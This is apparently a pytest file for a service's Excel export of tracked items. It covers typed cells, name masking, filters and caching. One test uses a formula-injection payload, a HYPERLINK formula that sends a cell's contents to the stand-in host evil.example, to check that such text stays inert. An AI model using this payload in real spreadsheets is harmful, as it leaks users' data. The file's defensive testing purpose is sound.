"""Items as an Excel workbook: the CSV's rows with typed cells, a sheet of the vocabulary, text
that never becomes a formula, withheld names masked for the public, the list's filters, the
CSV's caching (an ETag, 304, the file kept on disk), and no second compression."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from service.items import vocabulary
from service.items.csv_export import csv_columns, inert
from tests.support.seed import ACTOR, ITEM, QUOTE, SOURCE

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NAME = "Margaret Crofts"
PLACEHOLDER = "[name withheld]"
MASKED_ITEM = "syp-60-extra-officers-edl-protest"


@pytest.fixture
def exports(app_settings, tmp_path, monkeypatch):
    """Exports kept in this test's own directory."""
    from tests.support.databases import reset_app_state

    monkeypatch.setenv("TRACKER_EXPORT_CACHE_DIR", str(tmp_path / "exports"))
    reset_app_state()
    return tmp_path / "exports"


def workbook(content: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(content))


def items_rows(content: bytes) -> list[dict[str, object]]:
    sheet = workbook(content)["Items"]
    header, *rows = list(sheet.values)
    return [dict(zip(header, row, strict=True)) for row in rows]


def csv_rows(client: TestClient, **params: str) -> list[dict[str, str]]:
    text = client.get("/api/v1/items.csv", params=params).content.decode("utf-8")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def as_csv_text(value: object) -> str:
    """A workbook cell as the CSV writes the same value."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return str(inert([value])[0])
    return str(value)


def test_the_workbook_holds_the_csvs_rows_as_typed_cells(client, editor_headers) -> None:
    version = client.get(f"/api/v1/items/{ITEM}").json()["version"]
    client.patch(
        f"/api/v1/items/{ITEM}",
        json={"due_on": "2016-03-31"},
        headers={**editor_headers, "If-Match": f'"{version}"'},
    ).raise_for_status()
    response = client.get("/api/v1/items.xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"] == 'attachment; filename="items.xlsx"'
    book = workbook(response.content)
    assert book.sheetnames == ["Items", "Vocabulary"]
    sheet = book["Items"]
    assert [c.value for c in sheet[1]] == csv_columns()
    assert sheet.freeze_panes == "A2"
    last = sheet.cell(row=1, column=len(csv_columns())).column_letter
    assert sheet.auto_filter.ref == f"A1:{last}36"
    assert sheet.column_dimensions["D"].width == 60  # the title

    rows = items_rows(response.content)
    expected = csv_rows(client)
    assert [r["slug"] for r in rows] == [r["slug"] for r in expected] and len(rows) == 35
    for row, line in zip(rows, expected, strict=True):
        for column in ("made_on", "due_on"):
            day = row[column]
            # openpyxl reads a date cell back as midnight of that day.
            assert day is None or (isinstance(day, dt.datetime) and day.time() == dt.time())
            assert (day.date().isoformat() if day else "") == line[column]
        for column in ("created_at", "updated_at"):
            moment = row[column]
            assert isinstance(moment, dt.datetime) and moment.tzinfo is None
            utc = dt.datetime.fromisoformat(line[column]).astimezone(dt.UTC)
            assert abs(moment - utc.replace(tzinfo=None)) < dt.timedelta(milliseconds=1)
        for column in ("id", "version", "reply_count", "quote_start", "quote_end"):
            assert type(row[column]) is int and str(row[column]) == line[column]
        assert isinstance(row["overdue"], bool)
        others = set(line) - {"made_on", "due_on", "created_at", "updated_at"}
        assert {c: as_csv_text(row[c]) for c in others} == {c: line[c] for c in others}
    pledged = next(r for r in rows if r["slug"] == ITEM)
    assert pledged["quantity_value"] == 62 and pledged["quantity_unit"] == "staff"
    assert pledged["responsible_name"] is None or isinstance(pledged["responsible_name"], str)
    assert str(pledged["links_self"]).startswith("http") and str(pledged["links_self"]).endswith(
        f"/api/v1/items/{ITEM}"
    )
    # The cells' formats: a day, a moment in UTC.
    cells = {c.column_letter: c for c in sheet[2]}
    header = {c.value: c.column_letter for c in sheet[1]}
    assert cells[header["created_at"]].number_format == "yyyy-mm-dd hh:mm:ss"
    assert pledged["due_on"] == dt.datetime(2016, 3, 31)
    due = next(
        row[csv_columns().index("due_on")]
        for row in sheet.iter_rows(min_row=2)
        if row[csv_columns().index("slug")].value == ITEM
    )
    assert due.is_date and due.number_format == "yyyy-mm-dd"


def test_the_vocabulary_sheet_lists_each_kinds_statuses(client) -> None:
    sheet = workbook(client.get("/api/v1/items.xlsx").content)["Vocabulary"]
    header, *rows = list(sheet.values)
    assert header == ("kind", "kind_label", "status", "status_label", "phase", "outcome")
    assert rows == [
        (kind.code, kind.label, status.code, status.label, status.phase, status.outcome)
        for kind in vocabulary.KINDS
        for status in kind.statuses
    ]
    assert ("commitment", "Commitment", "partially_delivered", "Partially delivered",
            "resolved", "mixed") in rows  # fmt: skip
    assert sheet.freeze_panes == "A2"


def test_text_that_looks_like_a_formula_stays_text(client, editor_headers) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    created = client.post(
        "/api/v1/items",
        json={
            "kind": "commitment",
            "title": title,
            "description": "+44 20 7946 0000",
            "actor": ACTOR,
            "source": SOURCE,
            "quote": QUOTE,
            "quantity": {"value": 3, "unit": "@SUM(1+1)"},
        },
        headers=editor_headers,
    )
    assert created.status_code == 201, created.text
    slug = created.json()["slug"]
    content = client.get("/api/v1/items.xlsx").content
    sheet = workbook(content)["Items"]
    columns = csv_columns()
    row = next(r for r in sheet.iter_rows(min_row=2) if r[columns.index("slug")].value == slug)
    cells = {name: row[columns.index(name)] for name in ("title", "description", "quantity_unit")}
    assert {n: (c.value, c.data_type) for n, c in cells.items()} == {
        "title": (title, "s"),
        "description": ("+44 20 7946 0000", "s"),
        "quantity_unit": ("@SUM(1+1)", "s"),
    }
    assert (
        row[columns.index("quantity_value")].value,
        row[columns.index("quantity_value")].data_type,
    ) == (3, "n")
    # In the file itself: no formula anywhere, the title as inline text.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    assert re.search(
        r'<c r="D\d+" t="inlineStr"><is><t>=HYPERLINK\(&quot;http://evil.example/\?&quot;&amp;A1',
        xml,
    ) or re.search(r'<c r="D\d+" t="inlineStr"><is><t>=HYPERLINK\("http://evil', xml)


def test_a_withheld_name_is_masked_in_the_public_workbook(client, editor_headers) -> None:
    current = client.get(f"/api/v1/items/{MASKED_ITEM}").json()
    client.patch(
        f"/api/v1/items/{MASKED_ITEM}",
        json={"description": f"Mentioned beside a statement by {NAME}."},
        headers={**editor_headers, "If-Match": f'"{current["version"]}"'},
    ).raise_for_status()

    def description(content: bytes) -> object:
        return next(r for r in items_rows(content) if r["slug"] == MASKED_ITEM)["description"]

    def texts(content: bytes) -> str:
        book = workbook(content)
        return "\n".join(
            str(v) for s in book.worksheets for row in s.values for v in row if v is not None
        )

    before = client.get("/api/v1/items.xlsx").content
    assert description(before) == f"Mentioned beside a statement by {NAME}."
    response = client.post(
        f"/api/v1/items/{MASKED_ITEM}/withheld-names", json={"name": NAME}, headers=editor_headers
    )
    assert response.status_code == 201, response.text
    anonymous = TestClient(client.app)
    for _ in ("built", "kept"):
        shown = anonymous.get("/api/v1/items.xlsx").content
        assert description(shown) == f"Mentioned beside a statement by {PLACEHOLDER}."
        assert NAME not in texts(shown) and "Crofts" not in texts(shown)
    # Searching for the name finds no row: it would tell which item holds it.
    searched = anonymous.get("/api/v1/items.xlsx", params={"q": "Crofts"}).content
    assert items_rows(searched) == []


def test_the_lists_filters_and_sort_apply(client, editor_headers) -> None:
    params = {"kind": "allegation", "sort": "title"}
    rows = items_rows(client.get("/api/v1/items.xlsx", params=params).content)
    listed = client.get("/api/v1/items", params={**params, "limit": 200}).json()["items"]
    assert [r["slug"] for r in rows] == [i["slug"] for i in listed] and rows
    assert {r["kind"] for r in rows} == {"allegation"}
    assert [r["slug"] for r in rows] == [r["slug"] for r in csv_rows(client, **params)]
    refused = client.get("/api/v1/items.xlsx", params={"status": "nope"})
    assert refused.status_code == 422
    assert refused.headers["content-type"].startswith("application/problem+json")
    # Drafts are listed for editors only.
    draft = client.get("/api/v1/items.xlsx", params={"publication": "draft"})
    assert draft.status_code == 401
    assert (
        items_rows(
            client.get(
                "/api/v1/items.xlsx", params={"publication": "draft"}, headers=editor_headers
            ).content
        )
        == []
    )


def test_the_workbook_has_an_etag_answers_304_and_is_kept_on_disk(
    client, editor_headers, exports, monkeypatch
) -> None:
    from service.items import xlsx_export

    first = client.get("/api/v1/items.xlsx")
    etag = first.headers["etag"]
    assert etag.startswith('"') and first.headers["cache-control"] == "no-cache"
    assert etag != client.get("/api/v1/items.csv").headers["etag"]
    cached = client.get("/api/v1/items.xlsx", headers={"If-None-Match": etag})
    assert cached.status_code == 304 and cached.content == b""
    assert cached.headers["etag"] == etag

    def no_reading(**_: object):  # type: ignore[no-untyped-def]
        raise AssertionError("the table was read again")

    with monkeypatch.context() as patched:
        patched.setattr(xlsx_export, "stream", no_reading)
        again = client.get("/api/v1/items.xlsx")
    assert again.content == first.content and again.headers["etag"] == etag
    assert again.headers["content-type"] == XLSX
    assert "items.xlsx" in again.headers["content-disposition"]
    client.post(
        f"/api/v1/items/{ITEM}/status",
        json={"status": "stalled", "note": "The posts are not yet funded."},
        headers=editor_headers,
    ).raise_for_status()
    changed = client.get("/api/v1/items.xlsx", headers={"If-None-Match": etag})
    assert changed.status_code == 200 and changed.headers["etag"] != etag
    assert next(r for r in items_rows(changed.content) if r["slug"] == ITEM)["status"] == "stalled"


def test_the_same_data_makes_the_same_bytes(app_settings) -> None:
    """A strong ETag names one sequence of bytes: two builds of one version are alike."""
    from service.items import xlsx_export
    from service.items.filters import ItemFilters

    def as_it_is(_session):  # type: ignore[no-untyped-def]
        return lambda value: value

    def built() -> bytes:
        return b"".join(xlsx_export.stream(filters=ItemFilters(), sort=None, public_in=as_it_is))

    assert built() == built()


@pytest.mark.parametrize("coding", ["gzip", "br", "gzip, br"])
def test_a_workbook_is_sent_as_it_is_never_compressed_again(client, exports, coding) -> None:
    from service.delivery.encoding import compressible

    assert not compressible(XLSX)
    for attempt in ("built", "kept"):
        with client.stream(
            "GET", "/api/v1/items.xlsx", headers={"Accept-Encoding": coding}
        ) as response:
            data = b"".join(response.iter_raw())
            headers = response.headers
        assert "content-encoding" not in headers, attempt
        assert "accept-encoding" not in headers.get("vary", "").lower(), attempt
        assert data.startswith(b"PK\x03\x04"), attempt
        assert not headers["etag"].endswith(('-gzip"', '-br"')), attempt
        assert len(items_rows(data)) == 35
